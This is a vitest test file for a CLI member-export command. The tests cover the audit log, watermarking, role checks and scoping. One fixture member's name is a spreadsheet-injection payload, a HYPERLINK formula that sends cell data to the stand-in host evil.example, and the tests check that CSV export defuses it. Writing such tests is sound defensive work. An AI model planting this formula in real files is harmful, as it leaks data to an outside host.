// `shequn export`: members to CSV or XLSX, only with a reason, audited, and watermarked with the operator.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createTestDatabase, type TestDatabase } from './helpers/database.ts';
import { apiOn, cliEnv, runCli, runInProcess, type ApiOnDb } from './helpers/cli.ts';

// Each case spawns node + tsx (about a second, more on a busy machine): the projects' 5 s default is too short.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

let db: TestDatabase;
let t: ApiOnDb;
let dir: string;
let env: NodeJS.ProcessEnv;
const ops: Record<string, { id: string; email: string }> = {};
const REASON = '季度回访 quarterly call-back & review';

beforeAll(async () => {
  db = await createTestDatabase();
  t = await apiOn(db);
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'shequn-cli-export-'));
  env = cliEnv(db, { SHEQUN_LOG_LEVEL: 'warn' });
  const list = path.join(dir, 'list.csv');
  fs.writeFileSync(list, [
    '姓名,城市,手机,邮箱,标签,微信号',
    '张三,上海,13812345678,zs@example.com,VIP|茶友,wx_zs',
    '李四,北京,13912345678,,茶友,wx_ls',
    '"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",上海,,,VIP,',
    '@SUM(1+1),深圳,,,,',
  ].join('\n'));
  const imported = await runInProcess(['member', 'import', list], env);
  if (imported.code !== 0) throw new Error(imported.stderr);
  const c = await t.api.post('/api/v1/communities', { name: '茶友会', purpose: 'brand' });
  const g = await t.api.post('/api/v1/groups', { communityId: c.body.id, platform: 'wechat', name: '上海茶友1群' });
  const zs = (await t.api.get(`/api/v1/members?q=${encodeURIComponent('张三')}`)).body.items[0];
  expect((await t.api.post(`/api/v1/members/${zs.id}/memberships`, { groupId: g.body.id })).status).toBe(201);
  for (const [key, body] of Object.entries({
    ann: { email: 'ann@example.com', name: '安妮', role: 'admin', password: 'ann-password-1' },
    sam: { email: 'sam@example.com', name: 'Sam', role: 'service', password: 'sam-password-1' },
    sue: { email: 'sue@example.com', name: 'Sue', role: 'operator', password: 'sue-password-1', scope: { communities: [c.body.id] } },
    old: { email: 'old@example.com', name: 'Old', role: 'admin', password: 'old-password-1' },
  })) {
    const r = await t.api.post('/api/v1/operators', body);
    expect(r.status, r.text).toBe(201);
    ops[key] = r.body;
  }
  expect((await t.api.delete(`/api/v1/operators/${ops.old!.id}`)).status).toBe(204);
}, 60_000);
afterAll(async () => {
  await t?.close();
  await db?.drop();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

const exportsInAudit = async () => (await t.api.get('/api/v1/audit-log?action=member.export&limit=100')).body.items as any[];

describe('export', () => {
  it('writes CSV to stdout with a watermark column naming the operator, and audits it', async () => {
    const r = await runCli(['export', '--reason', REASON, '--by', 'ann@example.com'], env);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.startsWith('\uFEFF')).toBe(true); // Excel opens UTF-8 Chinese correctly with a BOM
    const [header, ...rows] = parse(r.stdout.slice(1)) as string[][];
    expect(header![0]).toBe('ID');
    expect(header!.at(-1)).toBe('水印 watermark');
    expect(rows).toHaveLength(4);
    for (const row of rows) {
      expect(row).toHaveLength(header!.length);
      expect(row.at(-1)).toMatch(new RegExp(`^导出人 exported by 安妮 <ann@example\\.com> \\(${ops.ann!.id}\\) · \\d{4}-\\d\\d-\\d\\dT[\\d:.]+Z · 用途 reason: 季度回访 quarterly call-back & review$`));
    }
    const names = rows.map((row) => row[1]);
    expect(names).toEqual(expect.arrayContaining(['张三', '李四']));
    // Formula-looking cells are defused for spreadsheets.
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`);
    expect(names).toContain("'@SUM(1+1)");
    expect(names.filter((n) => /^[=@]/.test(n!))).toEqual([]);

    const audit = await exportsInAudit();
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ actor: { type: 'cli', id: ops.ann!.id, name: '安妮 <ann@example.com>' }, detail: { reason: REASON, format: 'csv', rows: 4, filters: {} } });
  });

  it('writes XLSX (from the --out extension) with the watermark in the page header and footer and on every row', async () => {
    const out = path.join(dir, 'members.xlsx');
    const r = await runCli(['export', '--reason', REASON, '--out', out, '--by', 'ann@example.com', '--tag', 'VIP'], env);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(`Exported 2 members to ${out} (watermarked for 安妮 <ann@example.com>; recorded in the audit log)\n`);
    expect(fs.statSync(out).mode & 0o777).toBe(0o600);
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const sheet = wb.getWorksheet('members')!;
    expect(sheet.headerFooter.oddHeader).toMatch(/^&L导出人 exported by 安妮 <ann@example\.com> .* 用途 reason: 季度回访 quarterly call-back && review$/);
    expect(sheet.headerFooter.oddFooter).toMatch(/^&L导出人 exported by 安妮 <ann@example\.com> .*&R&P \/ &N$/);
    const header = sheet.getRow(1).values as unknown[];
    expect(header.at(-1)).toBe('水印 watermark');
    expect(sheet.rowCount).toBe(3);
    const names: unknown[] = [];
    for (let i = 2; i <= sheet.rowCount; i++) {
      const values = sheet.getRow(i).values as unknown[];
      names.push(values[2]);
      expect(String(values.at(-1))).toContain('安妮 <ann@example.com>');
    }
    expect(names.sort()).toEqual(['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '张三'].sort());
    const info = wb.getWorksheet('export')!;
    expect(info.getRow(4).values).toEqual([undefined, 'reason', REASON]);

    const audit = await exportsInAudit();
    expect(audit[0]).toMatchObject({ actor: { id: ops.ann!.id }, detail: { reason: REASON, format: 'xlsx', rows: 2, filters: { tag: ['VIP'] } } });
  });

  it("acts with the operator's scope, or as the CLI user without --by", async () => {
    const scoped = await runInProcess(['export', '--reason', 'scope check', '--by', 'sue@example.com'], env);
    expect(scoped.code, scoped.stderr).toBe(0);
    const rows = (parse(scoped.stdout.slice(1)) as string[][]).slice(1);
    expect(rows.map((row) => row[1])).toEqual(['张三']);

    const city = await runInProcess(['export', '--reason', 'city check', '--city', '上海'], env);
    expect(city.code, city.stderr).toBe(0);
    const cityRows = (parse(city.stdout.slice(1)) as string[][]).slice(1);
    expect(cityRows).toHaveLength(2);
    expect(cityRows[0]!.at(-1)).toMatch(/^导出人 exported by cli:\S+ \(cli\) · /);
    const audit = await exportsInAudit();
    expect(audit[0]).toMatchObject({ actor: { type: 'cli', id: null, name: expect.stringMatching(/^cli:/) }, detail: { reason: 'city check', filters: { city: '上海' } } });
  });

  it('refuses a role without the export right, an unknown or disabled operator; nothing is written or audited', async () => {
    const out = path.join(dir, 'refused.csv');
    const before = (await exportsInAudit()).length;
    const cases: [string, number, RegExp][] = [
      ['sam@example.com', 1, /^shequn: Your role does not allow member\.export\n$/],
      ['nobody@example.com', 2, /^shequn: No operator with e-mail nobody@example\.com in workspace default\n$/],
      ['old@example.com', 2, /^shequn: The operator old@example\.com is disabled\n$/],
    ];
    for (const [by, code, message] of cases) {
      const r = await runInProcess(['export', '--reason', 'should not leave', '--out', out, '--by', by], env);
      expect([r.code, r.stdout], by).toEqual([code, '']);
      expect(r.stderr, by).toMatch(message);
    }
    expect(fs.existsSync(out)).toBe(false);
    expect((await exportsInAudit()).length).toBe(before);
  });
});
